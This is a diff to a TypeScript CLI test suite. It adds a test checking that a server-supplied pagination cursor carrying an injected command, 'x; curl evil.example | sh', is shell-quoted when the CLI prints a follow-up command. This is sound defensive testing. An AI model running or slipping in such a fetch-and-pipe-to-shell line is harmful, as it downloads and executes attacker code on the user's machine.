@@ -10,6 +10,13 @@ const hostOf = (server: Pick<TestServer, "url">): TestHost =>
 const budget = { limit_units: 10, leak_units_per_hour: 1, spent_units: 0, held_units: 0, remaining_units: 10 };
 const setBudget = ["budget", "set", "--limit", "10", "--leak-per-hour", "1", "--json"] as const;
 
+test("a cursor that the API makes up is quoted where a command with it is shown", async () => {
+  const server = await testServer();
+  server.on("GET /api/executions", json({ executions: [], next_cursor: "x; curl evil.example | sh" }));
+  const { err } = await maestro(hostOf(server), "executions", "list");
+  expect(err).toContain("--cursor 'x; curl evil.example | sh'");
+});
+
 describe("a mutating request", () => {
   test("is sent again after 503 and after a cut connection, under the same Idempotency-Key", async () => {
     const server = await testServer();
